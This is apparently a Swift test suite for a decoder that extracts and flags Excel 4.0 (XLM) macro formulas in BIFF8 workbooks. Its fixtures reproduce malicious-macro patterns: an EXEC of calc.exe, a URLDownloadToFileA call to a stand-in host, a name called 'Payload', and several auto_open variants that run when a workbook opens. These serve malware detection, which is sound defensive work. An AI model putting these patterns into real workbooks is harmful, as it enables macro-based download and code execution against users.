import OfficeMacros
import Testing

/// Formula tokens (rgce) one at a time, through a BIFF8 macro sheet built by ``XLMBuilder``.
@Suite struct XLMFormulaTests {
    typealias B = XLMBuilder

    /// The formula text of one cell whose rgce is `rgce`, and the anomalies.
    static func decode(_ rgce: [UInt8], globals: [UInt8] = []) -> (String, [String]) {
        let stream = B.workbook(
            sheets: [(name: "Macro1", state: 0, type: 1, bof: 0x40, records: B.formula(row: 4, column: 2, rgce))],
            globals: globals
        )
        let wb = XLMExtractor.fromBIFF8(workbookStream: stream)
        return (wb.macroCells.first?.formula ?? "<none>", wb.anomalies)
    }

    static func num(_ x: Double) -> [UInt8] {
        [0x1F] + (0..<8).map { UInt8((x.bitPattern >> (8 * UInt64($0))) & 0xFF) }
    }

    struct T: Sendable, CustomTestStringConvertible {
        var rgce: [UInt8]
        var expected: String
        init(_ parts: [[UInt8]], _ expected: String) {
            rgce = parts.flatMap { $0 }
            self.expected = expected
        }
        var testDescription: String { expected }
    }

    static let cases: [T] = [
        T([B.int(7), B.int(2), [0x07]], "=7^2"),
        T([B.int(1), B.int(2), [0x09], B.int(1), B.int(2), [0x0E], [0x03]], "=1<2+1<>2"),
        T([B.int(1), B.int(2), [0x0A], B.int(3), B.int(4), [0x0C], [0x04]], "=1<=2-3>=4"),
        T([B.int(5), [0x13], [0x14], [0x15]], "=(-5%)"),
        T([B.int(5), [0x12], B.int(5), [0x0B], [0x06]], "=+5=5/"),
        T([num(0.5), [0x1D, 0x00], [0x1C, 0x2A], B.funcVar(3, 1)], "=IF(0.5,FALSE,#N/A)"),
        T([[0x1C, 0x17], [0x1C, 0x1D], [0x08]], "=#REF!&#NAME?"),
        T([B.str("a\"b"), [0x19, 0x40, 0x00, 0x02], B.funcVar(1, 118, command: true)], "=ALERT(\"a\"\"b\")"),
        T([[0x44, 0x00, 0x00, 0x01, 0xC0], [0x44, 0x02, 0x00, 0x03, 0x00], [0x11]], "=B1:$D$3"),
        T([[0x25, 0x00, 0x00, 0x09, 0x00, 0x00, 0xC0, 0x01, 0x00], [0x19, 0x10, 0, 0]], "=SUM(A1:$B$10)"),
        T([[0x16], B.int(1), B.funcVar(2, 150)], "=CALL(,1)"),
        T(
            [B.int(3), [0x19, 0x04, 0x01, 0x00, 0x06, 0x00, 0x0A, 0x00], B.str("a"), B.str("b"), B.funcVar(3, 100)],
            "=CHOOSE(3,\"a\",\"b\")"
        ),
        T([B.str("x"), [0x42, 0x81, 0x76, 0x80]], "=ALERT?(\"x\")"),
        T([B.funcVar(0, 999, command: true)], "=_CETAB999()"),
        T([B.int(65), B.fn(111), B.fn(32)], "=LEN(CHAR(65))"),
        T(
            [num(-7), num(1e20), num(0.1), num(4_503_599_627_370_497), B.funcVar(4, 6)],
            "=MIN(-7,1e+20,0.1,4503599627370497.0)"
        ),
        T([[0x24, 0x00, 0x00, 0x00, 0x00], [0x44, 0x00, 0x00, 0x01, 0x00], [0x10], [0x15]], "=($A$1,$B$1)"),
    ]

    @Test(arguments: cases)
    func tokens(_ t: T) {
        let expected = t.expected
        let (text, anomalies) = Self.decode(t.rgce)
        if expected.hasSuffix("/") {
            // PtgDiv with one operand left: reported, the rest kept.
            #expect(text.hasPrefix("=+5=5"))
            #expect(anomalies.contains { $0.hasPrefix("corrupt-formula:") })
        } else {
            #expect(text == expected)
            #expect(anomalies.isEmpty, "\(anomalies)")
        }
    }

    @Test func unknownTokenKeepsWhatWasDecoded() {
        let (text, anomalies) = Self.decode(
            B.str("calc.exe") + B.funcVar(1, 110) + [0x0F + 0x10 * 0 + 0x18 + 1] + [1, 2]
        )
        #expect(text.hasPrefix("=EXEC(\"calc.exe\") <"))
        #expect(anomalies.count == 1 && anomalies[0].hasPrefix("corrupt-formula: Macro1!$C$5:"))
        let (unknown, more) = Self.decode(B.int(1) + [0x3F])
        #expect(unknown.hasPrefix("=1 <unknown token 0x3F"))
        #expect(more.count == 1)
    }

    @Test func truncatedToken() {
        let (text, anomalies) = Self.decode(B.int(1) + [0x17, 0x09, 0x00, 0x41])
        #expect(text.hasPrefix("=1 <truncated token"))
        #expect(anomalies.count == 1)
    }

    @Test func fixedArityUnknown() {
        let (text, anomalies) = Self.decode(B.int(1) + B.fn(0x7ABC))
        #expect(text.contains("arity is unknown"))
        #expect(anomalies.count == 1)
    }

    @Test func valuesLeftOnTheStack() {
        let (text, anomalies) = Self.decode(B.int(1) + B.int(2))
        #expect(text == "=1 2 <2 values left on the operand stack>")
        #expect(anomalies.count == 1)
    }

    /// A user-defined call (Ftab 255) through an add-in function name (SUPBOOK 0x3A01 + EXTERNNAME), and a
    /// PtgName to a workbook name.
    @Test func userDefinedCalls() {
        let supbookAddIn = B.record(0x01AE, B.le16(1) + B.le16(0x3A01))
        let externName = B.record(0x0023, B.le16(0) + B.le32(0) + B.shortString("URLDownloadToFileA"))
        // XTI 0: the add-in book (SUPBOOK index 1, after the self SUPBOOK the builder writes first).
        let xtiRecord = B.record(
            0x0017,
            B.le16(2) + B.le16(0) + B.le16(0) + B.le16(0) + B.le16(1) + B.le16(0xFFFE) + B.le16(0xFFFE)
        )
        let nameX = [0x59] + B.le16(2) + B.le32(1)
        let rgce = nameX + B.int(0) + B.str("https://x.example.invalid/") + B.funcVar(3, 255)
        // The builder's EXTERNSHEET lists XTI 0; this second one adds XTI 1 (this workbook) and XTI 2 (the add-in).
        let (text, anomalies) = Self.decode(rgce, globals: supbookAddIn + externName + xtiRecord)
        #expect(text == "=URLDownloadToFileA(0,\"https://x.example.invalid/\")")
        #expect(anomalies.isEmpty, "\(anomalies)")

        let name = B.name(text: "Payload", rgce: [])
        let (call, more) = Self.decode([0x43] + B.le32(1) + B.int(4) + B.funcVar(2, 255), globals: name)
        #expect(call == "=Payload(4)")
        #expect(more.isEmpty)
    }

    /// A shared formula (SHRFMLA) whose PtgRefN offsets resolve against each cell.
    @Test func sharedFormula() {
        let refN: [UInt8] = [0x4C] + B.le16(0xFFFF) + B.le16(0xC000)  // one row up, same column, both relative
        let shrfmla = B.record(
            0x04BC,
            B.le16(1) + B.le16(2) + [0, 0] + [0, 2] + B.le16(refN.count + 4) + refN + B.funcVar(1, 110)
        )
        let exp: [UInt8] = [0x01] + B.le16(1) + B.le16(0)
        let records = B.formula(row: 1, column: 0, exp) + shrfmla + B.formula(row: 2, column: 0, exp)
        let wb = XLMExtractor.fromBIFF8(
            workbookStream: B.workbook(sheets: [(name: "M", state: 0, type: 1, bof: 0x40, records: records)])
        )
        #expect(wb.macroCells.map(\.formula) == ["=EXEC(A1)", "=EXEC(A2)"])
        #expect(wb.anomalies.isEmpty, "\(wb.anomalies)")
    }

    /// Names Excel runs although they are not the built-in one: `auto_open`, `Auto_Open21`, `_xlnm.Auto_Open`.
    @Test func autoOpenVariants() {
        for name in ["auto_open", "Auto_Open21", "AUTO_OPENxyz", "Auto_Close", "auto_activate"] {
            let wb = XLMExtractor.fromBIFF8(
                workbookStream: B.workbook(
                    sheets: [(name: "M", state: 0, type: 1, bof: 0x40, records: [])],
                    globals: B.name(text: name, rgce: B.ref3d(ixti: 0, row: 0, column: 0))
                )
            )
            #expect(wb.autoOpen.map(\.name) == [name])
            #expect(wb.autoOpen.first?.formula == "M!$A$1")
            #expect(wb.riskFlags().autoExec)
        }
        let wb = XLMExtractor.fromBIFF8(
            workbookStream: B.workbook(
                sheets: [(name: "M", state: 0, type: 1, bof: 0x40, records: [])],
                globals: B.name(text: "Auto_Opener_not", rgce: []) + B.name(text: "MyAuto_Open", rgce: [])
            )
        )
        #expect(wb.autoOpen.map(\.name) == ["Auto_Opener_not"])  // Excel runs Auto_Open* prefixes too
    }

    /// A sheet with a quote in its name is quoted in references.
    @Test func quotedSheetNames() {
        let stream = B.workbook(
            sheets: [
                (
                    name: "My sheet's", state: 0, type: 1, bof: 0x40,
                    records: B.formula(
                        row: 0,
                        column: 0,
                        B.ref3d(ixti: 0, row: 1, column: 2) + B.funcVar(1, 17 | 0x8000)
                    )
                )
            ])
        let wb = XLMExtractor.fromBIFF8(workbookStream: stream)
        #expect(wb.macroCells.first?.formula == "=RUN('My sheet''s'!$C$2)")
    }
}
